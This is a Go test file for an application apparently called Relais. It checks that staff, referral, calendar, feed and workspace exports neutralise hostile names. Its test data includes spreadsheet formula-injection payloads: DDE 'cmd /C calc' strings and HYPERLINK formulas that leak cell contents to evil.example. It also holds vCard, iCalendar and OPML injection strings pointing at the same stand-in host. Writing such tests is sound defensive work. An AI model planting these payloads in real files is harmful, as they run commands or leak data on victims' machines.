package cli_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-vcard"
	"github.com/xuri/excelize/v2"

	"relais/app"
	"relais/app/cli"
	"relais/backend/campaign"
	"relais/backend/staff"
	"relais/backend/workspace"
)

// signs begin formulas in some spreadsheet program.
const signs = "=+-@\t\r\n＝＋－＠"

// hostileTexts are what a colleague, a candidate or a site could be called.
func hostileTexts() []string {
	texts := []string{"DDE (\"cmd\";\"/C calc\";\"x\")", "\x00=1", "\x0b=1\x0c", "\u2028=1+1", "\u0085=1"}
	for _, r := range signs {
		texts = append(texts, string(r)+`HYPERLINK("http://evil.example?"&A1)`, string(r)+`cmd|' /C calc'!A0`)
	}
	for _, end := range []string{"\r\n", "\r", "\n", "\u2028"} {
		texts = append(texts, "Eva"+end+"END:VCARD"+end+"BEGIN:VEVENT"+end+"ATTACH:http://evil.example", strings.Repeat("é", 90)+end+"X-EVIL:1")
	}
	return append(texts, `"></outline><outline xmlUrl="http://evil.example"/>`, `a;b,c\n\;X-EVIL:1`)
}

// TestNoExportRunsWhatANameSays puts hostile text wherever somebody outside can
// put any, past every check at the door, and reads each export as its reader does.
func TestNoExportRunsWhatANameSays(t *testing.T) {
	ctx, dir := context.Background(), t.TempDir()
	a, err := app.Open(ctx, dir, workspace.Options{Secrets: &workspace.MemorySecrets{}, Now: func() time.Time { return time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC) }})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	texts := hostileTexts()
	for i, text := range texts {
		id := i + 1
		for _, q := range []struct {
			sql  string
			args []any
		}{
			{"INSERT INTO department (id, name, name_key, created_at) VALUES (?, ?, ?, 0)", []any{id, text, fmt.Sprint(id)}},
			{"INSERT INTO topic (id, name, created_at) VALUES (?, ?, 0)", []any{id, text}},
			{"INSERT INTO staff (id, name, given_name, employee_number, job_title, department_id, language, created_at, changed_at) VALUES (?, ?, ?, ?, ?, ?, 'fr', 0, 0)", []any{id, text, text, text, text, id}},
			{"INSERT INTO staff_address (staff_id, address, address_key, is_primary) VALUES (?, ?, ?, 1)", []any{id, text, fmt.Sprint(id)}},
			{"INSERT INTO staff_topic (staff_id, topic_id, stance, changed_at) VALUES (?, ?, 'declared', 0)", []any{id, id}},
			{"INSERT INTO campaign (name, objective, starts_on, created_at, changed_at) VALUES (?, 'traffic', '2026-03-05', 0, 0)", []any{text}},
			{"INSERT INTO post (kind, title, expires_on, created_at, changed_at) VALUES ('give', ?, '2026-03-06', 0, 0)", []any{text}},
			{"INSERT INTO source (kind, title, url, site_url, folder, created_at) VALUES ('feed', ?, ?, ?, ?, 0)", []any{text, fmt.Sprint("https://x.test/", id), text, text}},
			{"INSERT INTO referral (id, person, stage, received_on, candidate_name, erase_on, created_at, changed_at) VALUES (?, 1, 'received', '2026-03-01', ?, '2028-03-01', 0, 0)", []any{id, text}},
		} {
			if err := a.Workspace.DB.Write(ctx).Exec(q.sql, q.args...).Error; err != nil {
				t.Fatal(err)
			}
		}
	}
	people := func(t *testing.T, format, language string) []byte {
		t.Helper()
		data, err := a.Staff.Export(ctx, format, language, staff.Filter{})
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	for language, comma := range map[string]rune{"en": ',', "fr": ';'} {
		t.Run("staff.csv "+language, func(t *testing.T) { inertCSV(t, people(t, "csv", language), comma, len(texts)+1) })
		t.Run("staff.xlsx "+language, func(t *testing.T) { inertXLSX(t, people(t, "xlsx", language), len(texts)) })
	}
	t.Run("staff.vcf", func(t *testing.T) { inertCards(t, people(t, "vcf", "fr"), len(texts)) })
	t.Run("referrals.csv", func(t *testing.T) {
		code, out, errs := run(t, nil, "--workspace", dir, "referral", "list", "--csv")
		if code != 0 {
			t.Fatal(errs)
		}
		inertCSV(t, []byte(out), ',', len(texts)+1)
	})
	t.Run("calendar.ics", func(t *testing.T) {
		events, err := a.Campaigns.Calendar(ctx, "2026-03-01", "2026-03-31")
		if err != nil || len(events) != 2*len(texts) {
			t.Fatalf("%v, %d events", err, len(events))
		}
		inertCalendar(t, campaign.ICS(events, a.Workspace.Now(), func(e campaign.Event) string { return cli.EventTitle(cli.Words("send", "fr"), e) }), len(events))
	})
	t.Run("feeds.opml", func(t *testing.T) {
		var out bytes.Buffer
		if err := a.Sources.ExportFeeds(ctx, &out, texts[0]); err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(out.String(), "xmlUrl=\"https://x.test/"); n != len(texts) || strings.Contains(out.String(), `xmlUrl="http://evil`) {
			t.Errorf("%d feeds of %d", n, len(texts))
		}
		if err := xml.Unmarshal(out.Bytes(), new(struct{ XMLName xml.Name })); err != nil {
			t.Error(err)
		}
	})
	t.Run("workspace.zip and back", func(t *testing.T) { sameNames(t, a, texts) })
}

func inertCSV(t *testing.T, data []byte, comma rune, lines int) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.Comma = comma
	rows, err := r.ReadAll()
	if err != nil || len(rows) != lines {
		t.Fatalf("%v, %d lines of %d", err, len(rows), lines)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.IndexAny(cell, signs) == 0 {
				t.Errorf("a cell begins with a sign: %q", cell)
			}
		}
	}
}

func inertXLSX(t *testing.T, data []byte, people int) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet := book.GetSheetName(0)
	for y := 2; y <= people+1; y++ {
		for x := 1; x <= 12; x++ {
			at, _ := excelize.CoordinatesToCellName(x, y)
			text, _ := book.GetCellValue(sheet, at)
			formula, _ := book.GetCellFormula(sheet, at)
			kind, err := book.GetCellType(sheet, at)
			if textual := kind == excelize.CellTypeInlineString || kind == excelize.CellTypeSharedString; err != nil || formula != "" || text != "" && !textual {
				t.Errorf("%s %q has type %v and the formula %q (%v)", at, text, kind, formula, err)
			}
		}
	}
}

func inertCards(t *testing.T, data []byte, people int) {
	t.Helper()
	known := map[string]bool{"BEGIN": true, "END": true, "VERSION": true, "FN": true, "N": true, "EMAIL": true, "TITLE": true, "ORG": true, "LANG": true, "URL": true}
	if cards := written(t, string(data), known, "BEGIN:VCARD"); cards != people {
		t.Errorf("%d cards of %d people", cards, people)
	}
	for dec := vcard.NewDecoder(bytes.NewReader(data)); people > 0; people-- {
		if card, err := dec.Decode(); err != nil || len(card["N"]) != 1 || len(strings.Split(card.Value("N"), ";")) != 5 {
			t.Fatalf("%v in %v", err, card)
		}
	}
}

func inertCalendar(t *testing.T, text string, events int) {
	t.Helper()
	for _, line := range strings.Split(strings.TrimSuffix(text, "\r\n"), "\r\n") {
		if len(line) > 75 {
			t.Errorf("%d bytes in a line", len(line))
		}
	}
	known := map[string]bool{"BEGIN": true, "END": true, "VERSION": true, "PRODID": true, "UID": true, "DTSTAMP": true, "DTSTART": true, "DTEND": true, "SUMMARY": true, "TRANSP": true}
	if found := written(t, strings.ReplaceAll(text, "\r\n ", ""), known, "BEGIN:VEVENT"); found != events {
		t.Errorf("%d events of %d", found, events)
	}
}

// written holds that every line is one of the known properties, and counts those that are begin.
func written(t *testing.T, text string, known map[string]bool, begin string) (n int) {
	t.Helper()
	for _, line := range lines(text) {
		name, _, _ := strings.Cut(line, ":")
		if name, _, _ = strings.Cut(name, ";"); !known[name] {
			t.Errorf("the line %q was not written by Relais", line)
		}
		if line == begin {
			n++
		}
	}
	return n
}

// lines splits where the least strict reader does.
func lines(text string) []string {
	return strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune("\r\n\v\f\u0085\u2028\u2029", r) })
}

// sameNames exports everything, makes a workspace of it and looks for each name, byte for byte.
func sameNames(t *testing.T, a *app.App, texts []string) {
	t.Helper()
	ctx, file, dir := context.Background(), filepath.Join(t.TempDir(), "all.zip"), filepath.Join(t.TempDir(), "again")
	if err := a.Workspace.Export(ctx, file, "test"); err != nil {
		t.Fatal(err)
	}
	if _, err := workspace.ImportExport(ctx, file, dir); err != nil {
		t.Fatal(err)
	}
	ws, err := workspace.Open(ctx, dir, workspace.Options{ReadOnly: true, Secrets: &workspace.MemorySecrets{}})
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	var got []string
	if err := ws.DB.Read(ctx).Raw("SELECT name FROM staff ORDER BY id").Scan(&got).Error; err != nil {
		t.Fatal(err)
	}
	if fmt.Sprintf("%q", got) != fmt.Sprintf("%q", texts) {
		t.Errorf("got %q\nwant %q", got, texts)
	}
}
